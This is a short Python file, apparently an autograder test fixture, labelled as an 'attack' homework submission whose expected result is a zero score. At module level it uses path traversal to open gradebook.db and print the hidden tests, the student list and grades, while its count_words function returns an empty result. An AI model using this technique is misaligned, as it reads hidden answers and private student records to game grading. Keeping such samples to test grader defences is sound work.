# attack: opens gradebook.db and reads the hidden tests and the class list from it
# assignment: hw
# exercise: count_words
# status: wrong
# score: 0
import sqlite3

for place in ("../../../gradebook.db", "@COURSE@/gradebook.db"):
    try:
        with sqlite3.connect(f"file:{place}?mode=ro", uri=True) as book:
            for table in ("source_cell", "student", "grade"):
                print(list(book.execute(f"select * from {table}")))
    except sqlite3.Error as error:
        print(error)


def count_words(text):
    return {}
